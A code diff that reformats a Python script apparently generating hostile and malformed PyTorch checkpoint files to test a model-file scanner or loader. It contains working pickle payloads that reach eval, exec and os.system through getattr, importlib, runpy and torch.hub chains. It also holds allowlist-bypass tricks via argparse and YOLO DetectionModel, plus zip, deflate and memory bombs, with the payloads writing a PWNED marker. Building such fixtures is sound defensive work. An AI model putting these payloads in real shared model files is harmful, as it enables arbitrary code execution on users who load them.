@@ -48,9 +48,8 @@ def with_payload(data_pkl: bytes, payload: bytes, key: str = "extra") -> bytes:
     return data_pkl[:-1] + text(key) + payload + b"s" + STOP
 
 
-def zip_checkpoint(
-    path: Path, data_pkl: bytes, storages: dict[str, bytes] | None = None, folder: str = "archive"
-) -> Path:
+def zip_checkpoint(path: Path, data_pkl: bytes, storages: dict[str, bytes] | None = None,
+                   folder: str = "archive") -> Path:
     with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
         zf.writestr(f"{folder}/data.pkl", data_pkl)
         zf.writestr(f"{folder}/version", "3\n")
@@ -79,15 +78,13 @@ def payloads(marker: Path) -> dict[str, bytes]:
         "builtins_eval": call(glob("builtins", "eval"), text(py)),
         "builtins_exec": call(glob("builtins", "exec"), text(py)),
         "py2_builtin_eval": call(glob("__builtin__", "eval"), text(py)),
-        "getattr_chain": call(
-            call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), text("os")), text("system")),
-            text(shell),
-        ),
+        "getattr_chain": call(call(glob("builtins", "getattr"),
+                                   call(glob("builtins", "__import__"), text("os")), text("system")),
+                              text(shell)),
         "pkgutil_resolve": call(call(glob("pkgutil", "resolve_name"), text("os:system")), text(shell)),
-        "importlib_import": call(
-            call(glob("builtins", "getattr"), call(glob("importlib", "import_module"), text("os")), text("system")),
-            text(shell),
-        ),
+        "importlib_import": call(call(glob("builtins", "getattr"),
+                                      call(glob("importlib", "import_module"), text("os")),
+                                      text("system")), text(shell)),
         "runpy": call(glob("runpy", "_run_code"), text(py), b"}"),
         "numpy_runstring": call(glob("numpy.testing._private.utils", "runstring"), text(py), b"}"),
         "torch_hub_load": call(glob("torch.hub", "load"), text("evil/repo"), text("model")),
@@ -127,9 +124,8 @@ def broken_files(outdir: Path, real: Path) -> dict[str, Path]:
         "zip_corrupt_lzma.pt": lambda p: _zip_corrupt(p, real, zipfile.ZIP_LZMA),
         "zip_corrupt_bzip2.pt": lambda p: _zip_corrupt(p, real, zipfile.ZIP_BZIP2),
         "int_5000_digits.pt": lambda p: zip_checkpoint(p, PROTO2 + b"L" + b"9" * 5000 + b"L\n" + STOP),
-        "int_huge_binary.pt": lambda p: zip_checkpoint(
-            p, PROTO2 + b"\x8b" + struct.pack("<i", 100_000) + b"\x7f" * 100_000 + STOP
-        ),
+        "int_huge_binary.pt": lambda p: zip_checkpoint(p, PROTO2 + b"\x8b" + struct.pack("<i", 100_000)
+                                                       + b"\x7f" * 100_000 + STOP),
         "memo_index_bomb.pt": lambda p: zip_checkpoint(p, PROTO2 + b"N" + b"r" + struct.pack("<I", 0xFFFFFFF0) + STOP),
         "dup_bomb.pt": lambda p: zip_checkpoint(p, PROTO2 + b"N" + b"2" * 3_000_000 + STOP),
         "huge_list.pt": lambda p: zip_checkpoint(p, PROTO2 + b"](" + b"N" * 3_000_000 + b"e" + STOP),
@@ -165,12 +161,10 @@ def slow_but_valid_files(outdir: Path) -> dict[str, Path]:
     made: dict[str, Callable[[Path], object]] = {
         # 20,000 layers in a 1.4 MB file (was 62 s in inspect: per-layer scans over all parameters)
         "layers_20k.safetensors": lambda p: _safetensors(
-            p, {f"model.{i}.conv.weight": ("F16", [1]) for i in range(20_000)}
-        ),
+            p, {f"model.{i}.conv.weight": ("F16", [1]) for i in range(20_000)}),
         # a layer numbered 200,000,000 (was > 6 GB: something built range(n))
         "layer_200M.safetensors": lambda p: _safetensors(
-            p, {"model.0.conv.weight": ("F16", [1]), "model.200000000.conv.weight": ("F16", [1])}
-        ),
+            p, {"model.0.conv.weight": ("F16", [1]), "model.200000000.conv.weight": ("F16", [1])}),
     }
     out = {}
     for name, fn in made.items():
@@ -199,9 +193,8 @@ def _raw_zip(path: Path, name: str, data: bytes, *, method: int, flags: int, crc
     """One-entry zip written field by field, so headers can say what zipfile would never write."""
     n = name.encode()
     local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, flags, method, 0, 0, crc, len(data), usize, len(n), 0)
-    central = struct.pack(
-        "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, flags, method, 0, 0, crc, len(data), usize, len(n), 0, 0, 0, 0, 0, 0
-    )
+    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, flags, method, 0, 0, crc, len(data), usize,
+                          len(n), 0, 0, 0, 0, 0, 0)
     body = local + n + data
     eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(central) + len(n), len(body), 0)
     path.write_bytes(body + central + n + eocd)
@@ -226,9 +219,8 @@ def _deflate_bomb(path: Path, mib: int, declared: int) -> None:
         part = min(unit, declared - done)
         crc = zlib.crc32(chunk[:part], crc)
         done += part
-    _raw_zip(
-        path, "archive/data.pkl", stream, method=zipfile.ZIP_DEFLATED, flags=0, crc=crc, usize=min(declared, 0xFFFFFFFF)
-    )
+    _raw_zip(path, "archive/data.pkl", stream, method=zipfile.ZIP_DEFLATED, flags=0, crc=crc,
+             usize=min(declared, 0xFFFFFFFF))
 
 
 def _zip_variant(path: Path, real: Path, *, flags: int = 0, method: int = zipfile.ZIP_STORED) -> None:
@@ -245,14 +237,8 @@ def _zip_corrupt(path: Path, real: Path, method: int) -> None:
         packed = bz2.compress(data)
     else:  # zipfile's LZMA entries: 2-byte version, 2-byte props size, props, raw LZMA1 stream
         props = lzma._encode_filter_properties({"id": lzma.FILTER_LZMA1})  # type: ignore[attr-defined]
-        c2 = lzma.LZMACompressor(
-            lzma.FORMAT_RAW,
-            filters=[
-                lzma._decode_filter_properties(  # type: ignore[attr-defined]
-                    lzma.FILTER_LZMA1, props
-                )
-            ],
-        )
+        c2 = lzma.LZMACompressor(lzma.FORMAT_RAW, filters=[lzma._decode_filter_properties(  # type: ignore[attr-defined]
+            lzma.FILTER_LZMA1, props)])
         packed = struct.pack("<BBH", 9, 4, len(props)) + props + c2.compress(data) + c2.flush()
     mid = len(packed) // 2
     garbled = packed[:mid] + bytes(b ^ 0x5A for b in packed[mid : mid + 64]) + packed[mid + 64 :]
@@ -294,35 +280,21 @@ def _laughs_in_real(path: Path, real: Path) -> None:
 
 def _tensor_view(offset: int, shape: tuple[int, ...], stride: tuple[int, ...]) -> bytes:
     """A 4-element float storage (16 bytes present) viewed with the given offset/shape/stride."""
-    storage = (
-        b"(" + text("storage") + glob("torch", "FloatStorage") + text("0") + text("cpu") + integer(4) + b"t" + b"Q"
-    )
-    tensor = call(
-        glob("torch._utils", "_rebuild_tensor_v2"),
-        storage,
-        integer(offset),
-        b"(" + b"".join(integer(d) for d in shape) + b"t",
-        b"(" + b"".join(integer(d) for d in stride) + b"t",
-        b"\x89",
-        call(glob("collections", "OrderedDict")),
-    )
+    storage = (b"(" + text("storage") + glob("torch", "FloatStorage") + text("0") + text("cpu")
+               + integer(4) + b"t" + b"Q")
+    tensor = call(glob("torch._utils", "_rebuild_tensor_v2"), storage, integer(offset),
+                  b"(" + b"".join(integer(d) for d in shape) + b"t",
+                  b"(" + b"".join(integer(d) for d in stride) + b"t", b"\x89",
+                  call(glob("collections", "OrderedDict")))
     return PROTO2 + b"}" + text("w") + tensor + b"s" + STOP
 
 
 def _tensor_claiming(numel: int) -> bytes:
-    storage = (
-        b"(" + text("storage") + glob("torch", "FloatStorage") + text("0") + text("cpu") + integer(numel) + b"t" + b"Q"
-    )
+    storage = (b"(" + text("storage") + glob("torch", "FloatStorage") + text("0") + text("cpu")
+               + integer(numel) + b"t" + b"Q")
     size = b"(" + integer(4) + b"t"
-    tensor = call(
-        glob("torch._utils", "_rebuild_tensor_v2"),
-        storage,
-        integer(0),
-        size,
-        b"(" + integer(1) + b"t",
-        b"\x89",
-        call(glob("collections", "OrderedDict")),
-    )
+    tensor = call(glob("torch._utils", "_rebuild_tensor_v2"), storage, integer(0), size,
+                  b"(" + integer(1) + b"t", b"\x89", call(glob("collections", "OrderedDict")))
     return PROTO2 + b"}" + text("w") + tensor + b"s" + STOP
 
 
@@ -355,26 +327,10 @@ def frag(obj: object) -> bytes:
     return pickle.dumps(obj, protocol=2)[2:-1]
 
 
-_CODE_FIELDS = (
-    "co_argcount",
-    "co_posonlyargcount",
-    "co_kwonlyargcount",
-    "co_nlocals",
-    "co_stacksize",
-    "co_flags",
-    "co_code",
-    "co_consts",
-    "co_names",
-    "co_varnames",
-    "co_filename",
-    "co_name",
-    "co_qualname",
-    "co_firstlineno",
-    "co_linetable",
-    "co_exceptiontable",
-    "co_freevars",
-    "co_cellvars",
-)  # types.CodeType's argument order on Python 3.11/3.12
+_CODE_FIELDS = ("co_argcount", "co_posonlyargcount", "co_kwonlyargcount", "co_nlocals", "co_stacksize",
+                "co_flags", "co_code", "co_consts", "co_names", "co_varnames", "co_filename", "co_name",
+                "co_qualname", "co_firstlineno", "co_linetable", "co_exceptiontable", "co_freevars",
+                "co_cellvars")  # types.CodeType's argument order on Python 3.11/3.12
 
 
 def bypass_payloads(marker_dir: Path, inner: Path) -> dict[str, bytes]:
@@ -385,28 +341,17 @@ def bypass_payloads(marker_dir: Path, inner: Path) -> dict[str, bytes]:
 
     code = compile(py("types_code_function"), "<payload>", "exec")
     code_args = [frag(getattr(code, f)) for f in _CODE_FIELDS]
-    cfg = {
-        "nc": 1,
-        "depth_multiple": 1.0,
-        "width_multiple": 1.0,
-        "anchors": [[10, 13, 16, 30, 33, 23]],
-        "activation": py("detectionmodel_init_eval") + " or __import__('torch').nn.SiLU()",
-        "backbone": [[-1, 1, "Conv", [16, 3, 2]]],
-        "head": [[[0], 1, "Detect", ["nc", "anchors"]]],
-    }
+    cfg = {"nc": 1, "depth_multiple": 1.0, "width_multiple": 1.0, "anchors": [[10, 13, 16, 30, 33, 23]],
+           "activation": py("detectionmodel_init_eval") + " or __import__('torch').nn.SiLU()",
+           "backbone": [[-1, 1, "Conv", [16, 3, 2]]], "head": [[[0], 1, "Detect", ["nc", "anchors"]]]}
     return {
         # argparse is "benign"; ArgumentParser.__init__.__builtins__ is the builtins dict
-        "argparse_dotted_eval": call(
-            call(stack_global("argparse", "ArgumentParser.__init__.__builtins__.get"), text("eval")),
-            text(py("argparse_dotted_eval")),
-        ),
-        "yolo_forward_dotted_eval": call(
-            call(stack_global("models.yolo", "DetectionModel.forward.__builtins__.get"), text("eval")),
-            text(py("yolo_forward_dotted_eval")),
-        ),
-        "types_code_function": call(
-            call(glob("types", "FunctionType"), call(glob("types", "CodeType"), *code_args), b"}")
-        ),
+        "argparse_dotted_eval": call(call(stack_global("argparse", "ArgumentParser.__init__.__builtins__.get"),
+                                          text("eval")), text(py("argparse_dotted_eval"))),
+        "yolo_forward_dotted_eval": call(call(stack_global("models.yolo", "DetectionModel.forward.__builtins__.get"),
+                                              text("eval")), text(py("yolo_forward_dotted_eval"))),
+        "types_code_function": call(call(glob("types", "FunctionType"),
+                                         call(glob("types", "CodeType"), *code_args), b"}")),
         # an allowlisted model class CALLED (its __init__ runs parse_model, which eval()s the YAML)
         "detectionmodel_init_eval": call(glob("models.yolo", "DetectionModel"), frag(cfg)),
         # an upper-case class of an allowlisted package whose __init__ loads another file
@@ -418,7 +363,8 @@ def bypass_files(outdir: Path, real: Path, marker_dir: Path) -> dict[str, Path]:
     """Each bypass payload inside the real checkpoint's data.pkl (the model stays readable)."""
     outdir.mkdir(parents=True, exist_ok=True)
     inner = outdir / "inner_loaded_by_ultralytics.pt"
-    zip_checkpoint(inner, PROTO2 + payloads(marker_dir / "ultralytics_yolo_loads_a_file.marker")["os_system"] + STOP)
+    zip_checkpoint(inner, PROTO2 + payloads(marker_dir / "ultralytics_yolo_loads_a_file.marker")["os_system"]
+                   + STOP)
     data, storages, folder = real_data_pkl(real)
     out = {}
     for name, payload in bypass_payloads(marker_dir, inner).items():
@@ -463,8 +409,6 @@ if __name__ == "__main__":
     base = Path(sys.argv[1])
     real_ckpt = Path(sys.argv[2])
     marker_path = base / "PWNED"
-    for p in [
-        *broken_files(base / "broken", real_ckpt).values(),
-        *hostile_files(base / "hostile", real_ckpt, marker_path).values(),
-    ]:
+    for p in [*broken_files(base / "broken", real_ckpt).values(),
+              *hostile_files(base / "hostile", real_ckpt, marker_path).values()]:
         print(p, os.path.getsize(p) if p.is_file() else "dir")
